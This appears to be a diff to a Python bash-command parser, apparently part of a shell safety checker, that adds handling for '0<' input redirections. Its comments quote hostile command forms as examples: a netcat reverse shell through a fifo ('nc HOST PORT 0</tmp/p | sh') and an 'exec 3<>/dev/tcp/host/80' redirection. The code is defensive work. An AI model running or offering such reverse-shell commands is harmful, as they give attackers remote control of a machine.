@@ -719,6 +719,17 @@ def _parse_lines(text: str):
             if not retry.root_node.has_error:
                 source, tree = fixed, retry
                 text = source.decode("utf-8", "surrogatepass")
+    if b"0<" in source:
+        # (probe round 35, redteam35) bash's 0<FILE, 0<&N, 0<<EOF after a command's words
+        # (nc HOST PORT 0</tmp/p | sh, a reverse shell through a fifo): the grammar reads the 0
+        # as one more word; for an input redirection 0 is the default descriptor, so the 0
+        # is blanked and the text parsed again (0>FILE stays refused: ERR_FD_WORD)
+        fixed = _fd0_inputs(source, tree.root_node)
+        if fixed is not None:
+            retry = _parser().parse(fixed)
+            if not retry.root_node.has_error:
+                source, tree = fixed, retry
+                text = source.decode("utf-8", "surrogatepass")
     if b"<>" in source and tree.root_node.has_error:
         # (probe round 34, residuals36) bash's N<>FILE opens FILE for reading and writing
         # (exec 3<>/dev/tcp/host/80), an operator the grammar lacks: read as N>>FILE, a
@@ -744,6 +755,30 @@ def _parse_lines(text: str):
         text = source.decode("utf-8", "surrogatepass")
         tree = _parser().parse(source)
     raise _Unparseable(ERR_SYNTAX)   # still joining lines: the tree is not trusted
+
+
+def _fd0_inputs(source: bytes, root) -> bytes | None:
+    """The source with each 0 the grammar took as a command's last word, written against an
+    input redirection after it (``cat 0</tmp/p``, ``nc h 1 0<&3``), blanked: None if none."""
+    spots: list[int] = []
+    stack = [root]
+    while stack and len(spots) < 64:
+        node = stack.pop()
+        if node.type == "redirected_statement":
+            body = node.child_by_field_name("body")
+            if body is not None and body.type == "command" and body.children:
+                last = body.children[-1]
+                nxt = body.next_sibling
+                if last.type == "number" and source[last.start_byte:last.end_byte] == b"0" and nxt is not None \
+                        and nxt.start_byte == last.end_byte and source[nxt.start_byte:nxt.start_byte + 1] == b"<":
+                    spots.append(last.start_byte)
+        stack.extend(node.children)
+    if not spots:
+        return None
+    out = bytearray(source)
+    for at in spots:
+        out[at:at + 1] = b" "
+    return bytes(out)
 
 
 # bash's read-write redirection with a descriptor of 1 or more, or {var} (_parse_lines)
